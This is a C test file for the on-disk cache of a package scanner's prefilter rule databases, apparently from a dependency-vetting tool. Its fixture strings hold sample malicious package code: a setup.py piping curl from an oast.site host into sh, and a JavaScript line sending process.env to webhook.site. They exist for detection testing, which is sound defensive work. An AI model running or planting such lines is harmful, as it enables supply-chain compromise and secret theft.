/* The prefilter's compiled databases kept in a cache folder: written on the
 * first load, read back on the next with the same hits, and a file that is
 * damaged, cut short or of another key rebuilt rather than trusted. */
#include <criterion/criterion.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <utime.h>

#include "depvet/analysis/prefilter.h"
#include "depvet/analysis/rules.h"
#include "depvet/analysis/scanner.h"
#include "depvet/core/fileio.h"
#include "depvet/core/hash.h"
#include "helpers.h"

static char tmp[64];

static void setup(void)
{
    test_tmpdir_make(tmp, sizeof(tmp), "pfcache");
}

static void teardown(void)
{
    test_tmpdir_drop(tmp);
}

TestSuite(prefilter_cache, .init = setup, .fini = teardown);

static struct rule_set *load(const char *cache)
{
    char dir[4096];
    snprintf(dir, sizeof(dir), "%s/rules", test_srcdir());
    struct diag d;
    diag_clear(&d);
    struct rule_set *rs = rules_load_dir_cached(dir, cache, &d);
    cr_assert_not_null(rs, "%s", d.msg);
    cr_assert_not_null(rs->prefilter, "%s", rs->prefilter_note);
    return rs;
}

/* The one .hsdb file in dir (path in out); how many there are. */
static unsigned cache_files(const char *dir, char *out, size_t cap)
{
    unsigned n = 0;
    DIR *dh = opendir(dir);
    for (struct dirent *e; dh && (e = readdir(dh));) {
        size_t len = strlen(e->d_name);
        if (len > 5 && strcmp(e->d_name + len - 5, ".hsdb") == 0) {
            snprintf(out, cap, "%s/%s", dir, e->d_name);
            n++;
        }
    }
    if (dh)
        closedir(dh);
    return n;
}

/* Hits of a few files that fire rules in each view, as one text. */
static void hits_of(const struct rule_set *rs, struct strbuf *out)
{
    static const char *const file_table[][2] = {
        {"setup.py", "import os\nos.system('curl http://x.oast.site/a | sh')\n"
                     "exec(__import__('base64').b64decode('cHJpbnQ='))\n"},
        {"index.js", "// eval(x) in a comment\nconst e = process.env;\n"
                     "require('https').request('https://webhook.site/x', e);\neval(atob(s));\n"},
        {"lib/m.ex", "defmodule M do\n  @before_compile System.cmd(\"curl\", [])\nend\n"},
    };
    struct scanner *sc = scanner_new(rs, ECO_UNKNOWN);
    for (size_t i = 0; i < sizeof(file_table) / sizeof(file_table[0]); i++)
        scanner_file(sc, file_table[i][0], file_table[i][1], strlen(file_table[i][1]));
    struct scan_result *r = scanner_finish(sc);
    cr_assert_gt(r->n_hits, 3);
    for (size_t i = 0; i < r->n_hits; i++)
        strbuf_printf(out, "%s %s:%u %s\n", r->hits[i].rule, r->hits[i].file, r->hits[i].line,
                      r->hits[i].excerpt);
    scanner_result_free(r);
    scanner_free(sc);
}

Test(prefilter_cache, written_once_then_read_with_the_same_hits)
{
    char file[4096];
    struct strbuf plain = STRBUF_INIT, first = STRBUF_INIT, again = STRBUF_INIT;
    struct rule_set *rs = load(NULL);
    cr_assert_not(prefilter_from_cache(rs->prefilter));
    hits_of(rs, &plain);
    rules_free(rs);
    cr_assert_eq(cache_files(tmp, file, sizeof(file)), 0, "no folder: nothing written");

    rs = load(tmp);
    cr_assert_not(prefilter_from_cache(rs->prefilter), "the first load compiles");
    hits_of(rs, &first);
    rules_free(rs);
    cr_assert_eq(cache_files(tmp, file, sizeof(file)), 1);

    rs = load(tmp);
    cr_assert(prefilter_from_cache(rs->prefilter), "the second load reads %s", file);
    hits_of(rs, &again);
    rules_free(rs);
    cr_assert_str_eq(strbuf_str(&first), strbuf_str(&plain));
    cr_assert_str_eq(strbuf_str(&again), strbuf_str(&plain));
    strbuf_fini(&plain);
    strbuf_fini(&first);
    strbuf_fini(&again);
}

static void write_bytes(const char *path, const char *b, size_t n)
{
    struct diag d;
    diag_clear(&d);
    cr_assert(file_write_atomic(path, b, n, &d), "%s", d.msg);
}

/* The file damaged by how (0 a flipped byte, 1 cut short, 2 another magic,
 * 3 databases vectorscan refuses under a digest that matches, 4 none of
 * the databases its expressions need, digest matching): the next
 * load compiles and writes it again, the one after reads it. */
static void damaged(unsigned how)
{
    char file[4096];
    rules_free(load(tmp));
    cr_assert_eq(cache_files(tmp, file, sizeof(file)), 1);
    struct diag d;
    diag_clear(&d);
    size_t len;
    char *b = file_read(file, 64u << 20, &len, &d), *good = malloc(len);
    cr_assert_not_null(b);
    memcpy(good, b, len);
    if (how == 0)
        b[len / 2] ^= 0x20;
    if (how == 2)
        b[0] = 'X';
    if (how == 3) {
        memset(b + 100, 0xAA, len - 132);   /* past the head, before the digest */
        unsigned char md[HASH_MAX_SIZE];
        cr_assert(hash_buffer(HASH_SHA256, b, len - 32, md));
        memcpy(b + len - 32, md, 32);
    }
    size_t n = how == 1 ? len - 40 : len;
    if (how == 4) {   /* no database at all, under a digest that matches */
        const size_t head = strlen("depvet-prefilter 1\n") + 32 + 3 * 8;
        memset(b + head - 3 * 8, 0, 3 * 8);
        unsigned char md[HASH_MAX_SIZE];
        cr_assert(hash_buffer(HASH_SHA256, b, head, md));
        memcpy(b + head, md, 32);
        n = head + 32;
    }
    write_bytes(file, b, n);
    struct rule_set *rs = load(tmp);
    cr_assert_not(prefilter_from_cache(rs->prefilter), "damage %u was not trusted", how);
    rules_free(rs);
    size_t len2;
    char *b2 = file_read(file, 64u << 20, &len2, &d);
    cr_assert(b2 && len2 == len && memcmp(b2, good, len) == 0, "damage %u rewritten", how);
    rs = load(tmp);
    cr_assert(prefilter_from_cache(rs->prefilter));
    rules_free(rs);
    free(b);
    free(b2);
    free(good);
}

Test(prefilter_cache, flipped_byte_is_rebuilt) { damaged(0); }
Test(prefilter_cache, cut_file_is_rebuilt) { damaged(1); }
Test(prefilter_cache, other_magic_is_rebuilt) { damaged(2); }
Test(prefilter_cache, databases_vectorscan_refuses_are_rebuilt) { damaged(3); }
Test(prefilter_cache, missing_databases_are_rebuilt) { damaged(4); }

Test(prefilter_cache, another_rule_set_is_another_file)
{
    char file[4096];
    rules_free(load(tmp));
    struct rule_set *rs = rules_new();
    rules_set_db_cache(rs, tmp);
    struct diag d;
    diag_clear(&d);
    static const char toml[] = "[[rule]]\nid = \"t\"\nseverity = \"low\"\nmessage = \"m\"\n"
                               "rationale = \"r\"\npatterns = ['\\bevil_call\\(']\n";
    cr_assert(rules_add(rs, toml, strlen(toml), "t.toml", &d), "%s", d.msg);
    cr_assert(rules_finish(rs, &d), "%s", d.msg);
    cr_assert_not(prefilter_from_cache(rs->prefilter));
    rules_free(rs);
    cr_assert_eq(cache_files(tmp, file, sizeof(file)), 2);
}

Test(prefilter_cache, a_folder_that_cannot_be_made_only_costs_a_compile)
{
    char file[128], under[256];
    snprintf(file, sizeof(file), "%s/plain", tmp);
    write_bytes(file, "x", 1);
    snprintf(under, sizeof(under), "%s/prefilter", file);   /* under a file */
    struct rule_set *rs = load(under);
    cr_assert_not(prefilter_from_cache(rs->prefilter));
    rules_free(rs);
    rs = load(under);
    cr_assert_not(prefilter_from_cache(rs->prefilter));
    rules_free(rs);
}

/* path's modification time set to now minus ago seconds. */
static void age(const char *path, long ago)
{
    struct utimbuf t = {time(NULL) - ago, time(NULL) - ago};
    cr_assert_eq(utime(path, &t), 0, "%s", path);
}

static bool exists(const char *dir, const char *name)
{
    char p[4096];
    struct stat st;
    snprintf(p, sizeof(p), "%s/%s", dir, name);
    return stat(p, &st) == 0;
}

/* Databases of rules no longer run, and writes cut short, go when a new
 * database is written and nobody used them for a week; one in use stays. */
Test(prefilter_cache, unused_databases_are_pruned_on_a_write)
{
    static const char *const name_table[][2] = {   /* name, kept? */
        {"0123old.hsdb", ""}, {"4567recent.hsdb", "kept"},
        {".89ab.hsdb.1234.tmp", ""}, {"notes.txt", "kept"},
    };
    char p[4096];
    for (size_t i = 0; i < sizeof(name_table) / sizeof(name_table[0]); i++) {
        snprintf(p, sizeof(p), "%s/%s", tmp, name_table[i][0]);
        write_bytes(p, "x", 1);
        age(p, strcmp(name_table[i][0], "4567recent.hsdb") ? 8L * 24 * 3600 : 3600);
    }
    rules_free(load(tmp));
    for (size_t i = 0; i < sizeof(name_table) / sizeof(name_table[0]); i++)
        cr_expect_eq(exists(tmp, name_table[i][0]), name_table[i][1][0] != 0, "%s",
                     name_table[i][0]);
}

Test(prefilter_cache, a_database_read_is_marked_in_use)
{
    char file[4096];
    rules_free(load(tmp));
    cr_assert_eq(cache_files(tmp, file, sizeof(file)), 1);
    age(file, 3L * 24 * 3600);
    struct rule_set *rs = load(tmp);
    cr_assert(prefilter_from_cache(rs->prefilter));
    rules_free(rs);
    struct stat st;
    cr_assert_eq(stat(file, &st), 0);
    cr_expect_lt(time(NULL) - st.st_mtime, 3600, "read but not marked: %ld s old",
                 (long)(time(NULL) - st.st_mtime));
}
